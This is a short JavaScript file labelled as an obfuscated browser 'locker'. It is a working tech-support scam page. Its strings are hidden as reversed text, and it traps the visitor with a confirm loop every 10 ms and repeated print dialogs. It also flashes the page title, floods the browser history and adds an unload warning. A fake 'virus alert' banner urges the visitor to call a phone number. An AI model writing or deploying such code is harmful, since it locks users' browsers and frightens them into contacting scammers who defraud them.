// corpus note: string-array/reversed-string obfuscated locker with confirm loop, title flashing, print-dialog spam and history push
var _q = ["etatShsup", "trela", "mrifnoc", "eltit", "tnirp", "daolnuerofebno", "1910-555-888-1+"];
function _r(i) { return _q[i].split("").reverse().join(""); }

(function (W) {
  var num = _r(6);
  var m1 = String.fromCharCode(87, 65, 82, 78, 73, 78, 71, 33) + " Your system is heavily damaged by (4) viruses! Call " + num;
  var m2 = "If you close this page your computer access will be disabled to prevent further damage. Call " + num;

  W[_r(5)] = function () { return m2; };

  var c = 0;
  setInterval(function () {
    document[_r(3)] = (c++ % 2) ? "*** VIRUS ALERT ***" : "Call " + num + " now";
    W.history[_r(0)]({ c: c }, "", "#" + c);
  }, 700);

  function loop() {
    W[_r(1)](m1);
    if (!W[_r(2)](m2)) {
      try { W[_r(4)](); } catch (e) {}
    }
    setTimeout(loop, 10);
  }

  W.addEventListener("load", function () {
    var d = document.createElement("marquee");
    d.style.cssText = "position:fixed;bottom:0;left:0;width:100%;background:#000;color:#ff0;font:bold 22px monospace;z-index:99999";
    d.textContent = "Windows detected potential threats on your computer. Call Tech Support " + num + " (toll free)";
    document.body.appendChild(d);
    loop();
  });
})(window);
